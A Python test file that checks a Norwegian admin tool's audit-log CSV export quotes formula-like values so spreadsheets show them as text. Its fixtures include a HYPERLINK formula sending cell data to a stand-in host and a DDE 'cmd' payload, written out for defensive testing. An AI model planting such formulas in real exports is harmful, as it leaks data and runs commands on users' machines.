"""The audit log's CSV export cannot run formulas: what a coordinator typed, and the log keeps as
old and new values, is quoted so a spreadsheet shows it as text; kpdesk reads it back as it was."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from kpdesk.admin import audit_log
from kpdesk.admin.audit_log import AuditFilter, export_audit_csv
from kpdesk.common import csvfile
from kpdesk.register import service as register
from kpdesk.register.validation import EmployerData

STARTS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
BEFORE = '=HYPERLINK("http://evil.example/?d="&A1,"Klikk her")'
AFTER = "@SUM(1+1)"


def test_old_and_new_values_in_the_exported_log_are_quoted(store, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    with store.session() as s:
        employer = register.save_employer(s, EmployerData("988077917", BEFORE, notes="-2+3"))
        register.save_employer(s, EmployerData("988077917", AFTER, notes="+cmd|' /C calc'!A0"), employer)
    out = tmp_path / "logg.csv"
    with store.session() as s:
        assert export_audit_csv(s, out, AuditFilter(action="update")) == 2

    text = out.read_bytes().decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row]
    assert not [c for c in cells if c and c[0] in STARTS]
    assert {"'" + BEFORE, "'" + AFTER, "'-2+3", "'+cmd|' /C calc'!A0"} <= set(cells)

    table = csvfile.parse(out.read_bytes(), audit_log.CSV_COLUMNS)
    changes = {(r.values["felt"], r.values["fra"], r.values["til"]) for r in table.rows}
    assert changes == {("navn", BEFORE, AFTER), ("notater", "-2+3", "+cmd|' /C calc'!A0")}
